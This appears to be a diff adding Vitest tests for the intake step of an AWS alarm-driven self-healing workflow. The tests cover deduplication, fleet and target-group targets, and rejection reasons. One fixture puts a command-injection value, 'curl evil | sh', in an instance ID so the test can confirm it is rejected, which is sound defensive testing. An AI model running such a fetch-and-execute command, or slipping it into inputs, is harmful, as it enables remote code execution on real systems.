@@ -1,0 +1,141 @@
+import { beforeEach, describe, expect, it } from 'vitest';
+import { Defect } from '../../../lambdas/core/failure.ts';
+import type { Incident } from '../../../lambdas/core/incident.ts';
+import type { Policy } from '../../../lambdas/core/policy.ts';
+import { workflowStateSchema } from '../../../lambdas/core/workflow-state.ts';
+import { intake } from '../../../lambdas/steps/intake.ts';
+import { aPolicy, HOUR, INSTANCE_ID, NOW } from '../../support/builders.ts';
+import { failing, fakePorts, type World } from '../../support/fake-ports.ts';
+import { sampleAlarm, sampleEvent } from '../../support/sample-events.ts';
+
+const TARGET_GROUP = 'arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/web/73e2d6bc24d8a067';
+const fleetPolicy = aPolicy({ targets: { kind: 'contributor', attribute: 'InstanceId' } });
+const balancedPolicy = aPolicy({ targets: { kind: 'unhealthy-targets', targetGroupArn: TARGET_GROUP } });
+
+let world: World;
+beforeEach(() => {
+  world = fakePorts();
+});
+
+const deliver = (event: unknown, policy: Policy = aPolicy(), now = NOW) => intake({ policy, event }, world.ports, now);
+const incidents = () => [...world.started.values()].map((input) => (input as { incident: Incident }).incident);
+const reasonsRecorded = () => world.history.filter(({ kind }) => kind === 'rejected').map(({ reason }) => reason);
+
+describe('taking in an alarm', () => {
+  it('starts one workflow under the id of the incident, with an input that the steps accept', async () => {
+    await deliver(sampleEvent('metric-alarm'));
+
+    const [[name, input] = []] = world.started;
+    const state = workflowStateSchema.parse(JSON.parse(JSON.stringify(input)));
+    expect(name).toBe(state.incident.id);
+    expect(state.incident).toMatchObject({
+      target: { kind: 'instance', id: INSTANCE_ID },
+      openedAt: Date.parse('2026-11-02T10:19:40.989Z'),
+      receivedAt: NOW,
+      alarmName: 'healing-Web-memory',
+    });
+    expect(world.history).toMatchObject([{ kind: 'signal', incident: name, policy: 'Web-memory' }]);
+  });
+
+  it('starts one workflow when the same event is delivered three times, and records the other two by name', async () => {
+    for (const _ of [1, 2, 3]) await deliver(sampleEvent('metric-alarm'));
+
+    expect(world.started.size).toBe(1);
+    expect(reasonsRecorded()).toEqual(['duplicate-delivery', 'duplicate-delivery']);
+    expect(world.outcomes.map(({ end }) => end.reason)).toEqual(['duplicate-delivery', 'duplicate-delivery']);
+    expect(world.messages).toEqual([]);
+  });
+
+  it('opens another incident when the alarm goes off again later', async () => {
+    await deliver(sampleEvent('metric-alarm'));
+    await deliver(sampleAlarm('metric-alarm', { state: { value: 'ALARM', timestamp: '2026-11-02T10:19:50.000+0000' } }));
+
+    expect(world.started.size).toBe(2);
+  });
+
+  it('takes the instance of a fleet alarm from its contributor', async () => {
+    await deliver(sampleEvent('contributor'), fleetPolicy);
+
+    expect(incidents()).toMatchObject([
+      { target: { kind: 'instance', id: INSTANCE_ID }, contributor: { id: '6d442278dba546f6', attributes: { InstanceId: INSTANCE_ID } } },
+    ]);
+  });
+
+  it('opens an incident for each unhealthy instance of the target group', async () => {
+    world.account.unhealthy.set(TARGET_GROUP, ['i-00000001', 'i-00000002']);
+
+    await deliver(sampleEvent('metric-alarm'), balancedPolicy);
+
+    expect(incidents().map(({ target }) => target)).toEqual([
+      { kind: 'instance', id: 'i-00000001' },
+      { kind: 'instance', id: 'i-00000002' },
+    ]);
+  });
+
+  it('accepts an event that is exactly as old as the policy allows', async () => {
+    const fifteenMinutesLater = Date.parse('2026-11-02T10:34:40.989Z');
+    await deliver(sampleEvent('metric-alarm'), aPolicy(), fifteenMinutesLater);
+    expect(world.started.size).toBe(1);
+  });
+});
+
+describe('an event that opens no incident', () => {
+  const injected = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { InstanceId: 'i-0aaaabbbb; curl evil | sh' } } });
+  const nameless = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { host: 'web-1' } } });
+
+  it.each<[string, unknown, Policy, number, string, boolean]>([
+    ['muted', sampleEvent('metric-alarm-muted'), aPolicy(), NOW, 'muted', false],
+    ['suppressed', sampleEvent('composite-alarm-suppressed'), aPolicy(), NOW, 'suppressed', false],
+    ['late', sampleEvent('metric-alarm'), aPolicy(), NOW + HOUR, 'late-event', true],
+    ['about another service', sampleEvent('instance-state'), aPolicy(), NOW, 'unknown-event', true],
+    ['a recovery', sampleEvent('metric-alarm-recovered'), aPolicy(), NOW, 'unknown-event', true],
+    ['empty', {}, aPolicy(), NOW, 'unknown-event', true],
+    ['missing', undefined, aPolicy(), NOW, 'unknown-event', true],
+    ['about a fleet as a whole', sampleEvent('metric-alarm'), fleetPolicy, NOW, 'contributors-decide', false],
+    ['naming an instance with shell syntax in it', injected, fleetPolicy, NOW, 'invalid-target', true],
+    ['naming no instance', nameless, fleetPolicy, NOW, 'invalid-target', true],
+    ['of a target group whose targets are all healthy', sampleEvent('metric-alarm'), balancedPolicy, NOW, 'no-target', true],
+  ])('because it is %s is recorded by name, and starts nothing', async (_, event, policy, now, reason, told) => {
+    await deliver(event, policy, now);
+
+    expect(world.started.size).toBe(0);
+    expect(world.history).toMatchObject([{ kind: 'rejected', policy: policy.name, reason, outcome: 'skipped' }]);
+    expect(world.outcomes).toMatchObject([{ policy: policy.name, end: { reason } }]);
+    expect(world.messages.map(({ attributes }) => attributes.reason)).toEqual(told ? [reason] : []);
+  });
+
+  it('starts nothing at all when one of several targets is not valid', async () => {
+    world.account.unhealthy.set(TARGET_GROUP, ['i-00000001', '10.0.0.7']);
+
+    await deliver(sampleEvent('metric-alarm'), balancedPolicy);
+
+    expect(world.started.size).toBe(0);
+    expect(reasonsRecorded()).toEqual(['invalid-target']);
+  });
+
+  it('is kept in the history, cut to a length that a log line may have', async () => {
+    await deliver({ noise: 'x'.repeat(100_000) });
+
+    expect(world.history[0]?.event).toHaveLength(4_000);
+  });
+});
+
+describe('a failing delivery', () => {
+  it('without a valid policy is recorded and fails, so that it reaches the dead-letter queue', async () => {
+    await expect(intake({ policy: { name: 'x' }, event: sampleEvent('metric-alarm') }, world.ports, NOW)).rejects.toThrow(Defect);
+
+    expect(world.started.size).toBe(0);
+    expect(world.history).toMatchObject([{ kind: 'rejected', policy: '(unreadable)', reason: 'unknown-event' }]);
+  });
+
+  it('is repeated as a whole when the workflow cannot be started', async () => {
+    failing(world, 'workflow.start', new Error('unavailable'));
+    await expect(deliver(sampleEvent('metric-alarm'))).rejects.toThrow('unavailable');
+    world.disturb.before = () => {};
+
+    await deliver(sampleEvent('metric-alarm'));
+
+    expect(world.started.size).toBe(1);
+    expect(reasonsRecorded()).toEqual([]);
+  });
+});
